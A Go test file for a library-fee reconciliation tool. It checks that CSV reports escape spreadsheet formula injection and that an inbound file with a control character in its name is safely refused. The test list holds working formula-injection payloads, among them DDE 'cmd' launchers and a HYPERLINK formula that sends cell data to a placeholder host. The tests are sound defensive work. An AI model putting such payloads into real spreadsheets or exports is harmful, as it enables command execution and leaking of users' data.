package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/feebridge/feebridge/fees"
	"github.com/feebridge/feebridge/reconcile"
	"github.com/feebridge/feebridge/transport/localdrop"
)

// hostileCells are values an attacker can put in a report cell through an
// input file or Alma (a patron name, a barcode, a file name, a reason
// quoting a record) that a spreadsheet would run as a formula.
var hostileCells = []string{
	"=1+1",
	"=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"-",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"=",
}

// TestHostileReportCSV puts each hostile value in every text column of
// every section of the report and checks that no cell of the CSV starts
// with a formula character, that each such value comes back whole behind
// one apostrophe, and that amounts stay plain numbers.
func TestHostileReportCSV(t *testing.T) {
	for _, v := range hostileCells {
		t.Run(strings.NewReplacer("\t", `\t`, "\r", `\r`).Replace(v), func(t *testing.T) {
			rec := reconcile.Record{Kind: reconcile.KindPayment, Key: v, UserID: v, FeeID: v, FeeType: fees.Type(v),
				Barcode: v, Ref: v, File: v, Amount: usd("-5.00"), Reason: v, Line: 3}
			fee := fees.Fee{ID: v, TransactionID: v, UserID: v, Type: fees.Type(v), Item: fees.Item{Barcode: v, Title: v},
				Balance: usd("12.50"), Original: usd("12.50")}
			rep := reconcile.Report{
				Date:             day(0),
				ReturnedWithFees: []fees.Fee{fee},
				NotSent:          []reconcile.Record{rec},
				Held:             []reconcile.Record{rec},
				FailedEvents:     []reconcile.Record{rec},
				FailedFiles:      []reconcile.FileRecord{{Job: v, Name: v, Reason: v}},
			}
			var b bytes.Buffer
			if err := rep.WriteCSV(&b); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatalf("the CSV does not parse: %v\n%s", err, b.String())
			}
			if len(rows) < 6 {
				t.Fatalf("%d rows, want a header and a row per section:\n%s", len(rows), b.String())
			}
			seen := 0
			for i, row := range rows[1:] {
				for j, cell := range row {
					if cell == "" {
						continue
					}
					if strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-5.00" {
						t.Errorf("row %d column %d: %q would be read as a formula", i+2, j+1, cell)
					}
					if cell == "'"+v {
						seen++
					}
				}
			}
			if seen == 0 {
				t.Errorf("the value %q is in no cell, behind an apostrophe:\n%s", v, b.String())
			}
		})
	}
}

// TestHostileInboundName: a file in an inbound folder whose name the drop
// refuses (a control character, as a hostile or broken sender may write
// it) must not stop the job: the files before and after it are handled,
// and the refused one is listed as failed, left in place, never opened.
func TestHostileInboundName(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "exports"), 0o755); err != nil {
		t.Fatal(err)
	}
	lib, err := localdrop.Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { lib.Close() })
	e.library = lib
	for name, body := range map[string]string{
		"a.xml":         "fee|T1|S001|F1|OVERDUEFINE|B100|1.00\nend|1\n",
		"b\x01evil.xml": "fee|T2|S001|F2|OVERDUEFINE|B101|2.00\nend|1\n",
		"c.xml":         "fee|T3|S001|F3|OVERDUEFINE|B102|3.00\nend|1\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, "exports", name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res, err := e.jobs(nil).Charges(t.Context())
	t.Logf("result %+v, error %v", res, err)
	if err != nil {
		t.Errorf("the job stopped at the unusable name: %v", err)
	}
	if res.Records != 2 {
		t.Errorf("%d records charged, want the 2 of a.xml and c.xml", res.Records)
	}
	if _, err := os.Stat(filepath.Join(dir, "exports", "done", "c.xml")); err != nil {
		t.Errorf("c.xml, after the bad name, was not handled: %v", err)
	}
	if len(res.Failed) != 1 || !strings.Contains(res.Failed[0].File, `\x01`) {
		t.Errorf("failed files %+v, want the bad name listed, quoted", res.Failed)
	}
	if _, err := os.Stat(filepath.Join(dir, "exports", "b\x01evil.xml")); err != nil {
		t.Errorf("the file with the bad name moved: %v", err)
	}
}
